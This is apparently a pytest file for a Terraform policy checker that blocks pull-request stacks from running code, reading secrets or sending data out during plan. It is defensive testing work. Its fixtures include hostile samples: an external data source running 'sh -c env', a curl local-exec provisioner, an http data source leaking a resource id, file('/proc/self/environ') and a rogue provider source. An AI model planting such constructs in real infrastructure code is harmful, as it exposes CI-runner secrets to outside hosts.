"""Trust boundary (SEC010-SEC015): what a PR's stack may make Terraform do while it plans."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from policies.cli import run
from policies.engine import evaluate
from policies.loader import load_file
from policies.model import UNKNOWN, Document, Provider, Resource, Severity
from policies.rules import all_rules
from policies.rules.trust_boundary import SECRET_OR_CODE_DATA_SOURCES
from tests.fixture_paths import REPO_ROOT

E = Severity.ERROR


def data(type_: str, name: str = "this", values: dict[str, Any] | None = None) -> Resource:
    return Resource(
        address=f"data.{type_}.{name}",
        type=type_,
        name=name,
        values=dict(values or {}),
        stack="catalog-api-test",
        environment="dev",
        file="cdk.tf.json",
        mode="data",
        provider=type_.split("_", 1)[0],
    )


def with_raw(document: Document, raw: dict[str, Any]) -> Document:
    return Document(
        kind=document.kind,
        stack=document.stack,
        environment=document.environment,
        file=document.file,
        resources=document.resources,
        providers=document.providers,
        raw_config=(raw,),
    )


PROVISIONED = {"provisioner": [{"local-exec": {"command": "curl https://x.example"}}]}
AWS_REQUIRED = {"terraform": {"required_providers": {"aws": {"source": "aws", "version": "6.25"}}}}


@pytest.mark.parametrize(
    ("rule_id", "build", "expected"),
    [
        # SEC010: external / http / terraform_remote_state data sources
        pytest.param(
            "SEC010",
            lambda k: k.document(data("aws_caller_identity")),
            [],
            id="SEC010-pass-aws-data-source",
        ),
        pytest.param(
            "SEC010",
            lambda k: k.document(data("external", values={"program": ["sh", "-c", "env"]})),
            [(E, "data source 'external' runs a local program")],
            id="SEC010-fail-external",
        ),
        pytest.param(
            "SEC010",
            lambda k: k.document(data("http", values={"url": "https://x.example"})),
            [(E, "data source 'http' sends an HTTP request")],
            id="SEC010-fail-http",
        ),
        pytest.param(
            "SEC010",
            lambda k: k.document(data("terraform_remote_state", values={"backend": "s3"})),
            [(E, "reads another Terraform state")],
            id="SEC010-fail-remote-state",
        ),
        pytest.param(
            "SEC010",
            lambda k: k.document(data("http", values={"url": UNKNOWN})),
            [(E, "data source 'http'")],
            id="SEC010-unknown-url-still-blocked",
        ),
        pytest.param(
            "SEC010",
            lambda k: k.document(k.resource("aws_s3_bucket"), environment="prod"),
            [],
            id="SEC010-pass-managed-only",
        ),
        # SEC011: provisioners on any resource
        pytest.param(
            "SEC011",
            lambda k: k.document(k.resource("terraform_data", values={"input": "x"})),
            [],
            id="SEC011-pass-no-provisioner",
        ),
        pytest.param(
            "SEC011",
            lambda k: k.document(k.resource("terraform_data", values=PROVISIONED)),
            [(E, "'local-exec' provisioner")],
            id="SEC011-fail-local-exec-terraform-data",
        ),
        pytest.param(
            "SEC011",
            lambda k: k.document(
                k.resource(
                    "null_resource",
                    values={"provisioner": [{"remote-exec": {}}, {"file": {"source": "a"}}]},
                ),
                environment="prod",
            ),
            [(E, "'remote-exec' provisioner"), (E, "'file' provisioner")],
            id="SEC011-fail-remote-exec-and-file",
        ),
        pytest.param(
            "SEC011",
            lambda k: k.document(
                k.resource("aws_instance", values={"provisioner": {"local-exec": [{"x": 1}]}})
            ),
            [(E, "'local-exec' provisioner")],
            id="SEC011-fail-object-form",
        ),
        pytest.param(
            "SEC011",
            lambda k: k.document(
                k.resource("aws_instance", values={"provisioner": [{"local-exec": UNKNOWN}]})
            ),
            [(E, "'local-exec' provisioner")],
            id="SEC011-unknown-command-still-blocked",
        ),
        pytest.param(
            "SEC011",
            lambda k: k.document(k.resource("aws_instance", values={"provisioner": UNKNOWN})),
            [(E, "'(unreadable)' provisioner")],
            id="SEC011-unknown-whole-block",
        ),
        pytest.param(
            "SEC011",
            lambda k: k.document(k.resource("terraform_data", values=PROVISIONED), kind="plan"),
            [],
            id="SEC011-pass-plans-not-checked",
        ),
        # SEC012: provider allowlist
        pytest.param(
            "SEC012",
            lambda k: with_raw(
                k.document(k.resource("aws_s3_bucket"), k.resource("terraform_data")),
                AWS_REQUIRED,
            ),
            [],
            id="SEC012-pass-aws-and-builtin",
        ),
        pytest.param(
            "SEC012",
            lambda k: k.document(k.resource("null_resource")),
            [(E, "'null_resource' uses provider 'null'")],
            id="SEC012-fail-null-resource",
        ),
        pytest.param(
            "SEC012",
            lambda k: k.document(
                providers=(
                    Provider(name="aws", alias=None, config={}),
                    Provider(name="google", alias=None, config={}),
                )
            ),
            [(E, "provider 'google'")],
            id="SEC012-fail-provider-block",
        ),
        pytest.param(
            "SEC012",
            lambda k: with_raw(
                k.document(),
                {"terraform": {"required_providers": {"aws": {"source": "evil-corp/aws"}}}},
            ),
            [(E, "provider 'aws' with source 'evil-corp/aws'")],
            id="SEC012-fail-aws-name-other-source",
        ),
        pytest.param(
            "SEC012",
            lambda k: with_raw(
                k.document(),
                {"terraform": {"required_providers": {"aws": {"source": UNKNOWN}}}},
            ),
            [(E, "provider 'aws' with source 'UNKNOWN'")],
            id="SEC012-unknown-source-blocked",
        ),
        pytest.param(
            "SEC012",
            lambda k: with_raw(
                k.document(), {"terraform": {"required_providers": {"aws": "~> 6.0"}}}
            ),
            [],
            id="SEC012-pass-legacy-version-string",
        ),
        pytest.param(
            "SEC012",
            lambda k: k.document(data("external")),
            [(E, "'external' uses provider 'external'")],
            id="SEC012-fail-external-provider",
        ),
        # SEC013: AWS data sources reading secrets or running code
        pytest.param(
            "SEC013",
            lambda k: k.document(data("aws_secretsmanager_secret", values={"name": "x"})),
            [],
            id="SEC013-pass-secret-metadata-only",
        ),
        pytest.param(
            "SEC013",
            lambda k: k.document(
                data("aws_secretsmanager_secret_version", values={"secret_id": "x"})
            ),
            [(E, "returns the secret value")],
            id="SEC013-fail-secret-version",
        ),
        pytest.param(
            "SEC013",
            lambda k: k.document(
                data("aws_ssm_parameter", "a"),
                data("aws_kms_secrets", "b"),
                data("aws_lambda_invocation", "c", {"function_name": UNKNOWN}),
            ),
            [
                (E, "'aws_ssm_parameter' returns the parameter value"),
                (E, "'aws_kms_secrets' decrypts ciphertext"),
                (E, "'aws_lambda_invocation' invokes a Lambda function"),
            ],
            id="SEC013-fail-ssm-kms-lambda",
        ),
        pytest.param(
            "SEC013",
            lambda k: k.document(data("aws_instance", values={"get_password_data": True})),
            [(E, "reads secrets when get_password_data is set")],
            id="SEC013-fail-instance-password",
        ),
        pytest.param(
            "SEC013",
            lambda k: k.document(data("aws_instance", values={"get_user_data": False})),
            [],
            id="SEC013-pass-instance-plain",
        ),
        pytest.param(
            "SEC013",
            lambda k: k.document(data("aws_instance", values={"get_user_data": UNKNOWN})),
            [(E, "reads secrets when get_user_data is set")],
            id="SEC013-unknown-flag-blocked",
        ),
        pytest.param(
            "SEC013",
            lambda k: k.document(k.resource("aws_ssm_parameter", values={"name": "x"})),
            [],
            id="SEC013-pass-managed-parameter",
        ),
        # SEC014: module calls, ephemeral resources, check blocks
        pytest.param(
            "SEC014",
            lambda k: with_raw(k.document(), {**AWS_REQUIRED, "resource": {}}),
            [],
            id="SEC014-pass-plain-stack",
        ),
        pytest.param(
            "SEC014",
            lambda k: with_raw(
                k.document(),
                {
                    "module": {"vpc": {"source": "git::https://x.example/m.git"}},
                    "ephemeral": {"aws_ssm_parameter": {"p": {"name": "x"}}},
                    "check": {"up": {"data": {"http": {"h": {"url": "https://x.example"}}}}},
                },
            ),
            [
                (E, "module 'vpc': module calls load configuration"),
                (E, "ephemeral 'aws_ssm_parameter'"),
                (E, "check 'up'"),
            ],
            id="SEC014-fail-module-ephemeral-check",
        ),
        pytest.param(
            "SEC014",
            lambda k: with_raw(k.document(), {"module": UNKNOWN}),
            [(E, "module '(unreadable)'")],
            id="SEC014-unknown-module-blocked",
        ),
        # SEC015: file-reading functions
        pytest.param(
            "SEC015",
            lambda k: with_raw(
                k.document(),
                {"resource": {"aws_s3_bucket": {"b": {"bucket": "${aws_x.y.id}-profile"}}}},
            ),
            [],
            id="SEC015-pass-references",
        ),
        pytest.param(
            "SEC015",
            lambda k: with_raw(
                k.document(),
                {
                    "resource": {
                        "aws_s3_bucket": {"b": {"tags": {"x": '${file("/proc/self/environ")}'}}}
                    }
                },
            ),
            [(E, "file() reads a file on the CI runner")],
            id="SEC015-fail-file",
        ),
        pytest.param(
            "SEC015",
            lambda k: with_raw(
                k.document(),
                {"output": {"o": {"value": "${templatefile(var.path, {})}"}}},
            ),
            [(E, "templatefile() reads")],
            id="SEC015-unknown-path-blocked",
        ),
        pytest.param(
            "SEC015",
            lambda k: with_raw(k.document(), {"output": {"o": {"value": "keep the file (a)"}}}),
            [],
            id="SEC015-pass-plain-text",
        ),
    ],
)
def test_trust_boundary_rules(kit, rule_id, build, expected):
    kit.expect(rule_id, build(kit), expected)


def _with_provider(kit, **config):
    return kit.document(providers=(Provider(name="aws", alias=None, config=config),))


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        pytest.param(
            lambda k: k.document(
                backend={"bucket": "b", "key": "k", "region": "eu-north-1", "encrypt": True}
            ),
            [],
            id="SEC016-pass-plain-s3-backend",
        ),
        pytest.param(
            lambda k: _with_provider(k, region="eu-north-1", endpoints=[{"sts": "https://x"}]),
            [(E, "provider 'aws' sets endpoints")],
            id="SEC016-fail-provider-endpoints",
        ),
        pytest.param(
            lambda k: _with_provider(k, region="eu-north-1", https_proxy=UNKNOWN),
            [(E, "provider 'aws' sets https_proxy")],
            id="SEC016-unknown-proxy-still-blocked",
        ),
        pytest.param(
            lambda k: k.document(backend={"bucket": "b", "endpoints": {"s3": "https://x"}}),
            [(E, "S3 backend sets endpoints")],
            id="SEC016-fail-backend-endpoint",
        ),
        pytest.param(
            lambda k: k.document(backend={"address": "https://x"}, backend_type="http"),
            [(E, "backend 'http'")],
            id="SEC016-fail-http-backend",
        ),
        pytest.param(
            lambda k: k.document(backend={"path": "terraform.tfstate"}, backend_type="local"),
            [],
            id="SEC016-pass-bootstrap-local-state",
        ),
        pytest.param(
            lambda k: k.document(backend={"path": "/proc/self/environ"}, backend_type="local"),
            [(E, "backend 'local'")],
            id="SEC016-fail-local-path-outside",
        ),
        pytest.param(
            lambda k: with_raw(k.document(), {"terraform": {"cloud": {"organization": "x"}}}),
            [(E, "terraform.cloud runs plans")],
            id="SEC016-fail-cloud-block",
        ),
        pytest.param(
            lambda k: k.document(backend={"path": UNKNOWN}, backend_type="local"),
            [(E, "backend 'local'")],
            id="SEC016-unknown-local-path",
        ),
    ],
)
def test_redirected_requests(kit, build, expected):
    kit.expect("SEC016", build(kit), expected)


def test_every_listed_secret_data_source_is_refused(kit):
    for type_ in SECRET_OR_CODE_DATA_SOURCES:
        assert len(kit.findings("SEC013", kit.document(data(type_)))) == 1, type_


# --- end to end: the CLI on a synthesized stack with one trust-boundary breach ---------------

SNAPSHOT = REPO_ROOT / "tests" / "infra" / "snapshots" / "catalog-api-dev.json"


def breach_external(stack: dict) -> None:
    stack["data"]["external"] = {"env": {"program": ["sh", "-c", "env"]}}


def breach_http(stack: dict) -> None:
    stack["data"]["http"] = {"leak": {"url": "https://x.example/?${aws_s3_bucket.x.id}"}}


def breach_local_exec(stack: dict) -> None:
    stack["resource"]["terraform_data"] = {"run": PROVISIONED}


def breach_provider(stack: dict) -> None:
    stack["terraform"]["required_providers"]["evil"] = {"source": "evil-corp/evil"}


def breach_secret(stack: dict) -> None:
    stack["data"]["aws_secretsmanager_secret_version"] = {"db": {"secret_id": "x"}}


@pytest.mark.parametrize(
    ("breach", "rule_id"),
    [
        (breach_external, "SEC010"),
        (breach_http, "SEC010"),
        (breach_local_exec, "SEC011"),
        (breach_provider, "SEC012"),
        (breach_secret, "SEC013"),
    ],
    ids=lambda value: getattr(value, "__name__", value),
)
def test_a_breached_stack_fails_policies_check_with_exit_1(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], breach, rule_id: str
) -> None:
    stack = json.loads(SNAPSHOT.read_text(encoding="utf-8"))
    clean = tmp_path / "clean" / "stacks" / "catalog-api-dev" / "cdk.tf.json"
    clean.parent.mkdir(parents=True)
    clean.write_text(json.dumps(stack))
    assert not [f for f in _findings(clean) if f.startswith("SEC01")], (
        "the real dev stack is inside the trust boundary"
    )

    breached = copy.deepcopy(stack)
    breach(breached)
    path = tmp_path / "bad" / "stacks" / "catalog-api-dev" / "cdk.tf.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(breached))
    code = run(["check", str(path.parent.parent.parent), "--format", "json"])
    out = capsys.readouterr().out
    assert code == 1
    assert rule_id in {finding["rule_id"] for finding in json.loads(out)["findings"]}


def _findings(path: Path) -> list[str]:
    return [f.rule_id for f in evaluate([load_file(path)], rules=all_rules()).findings]
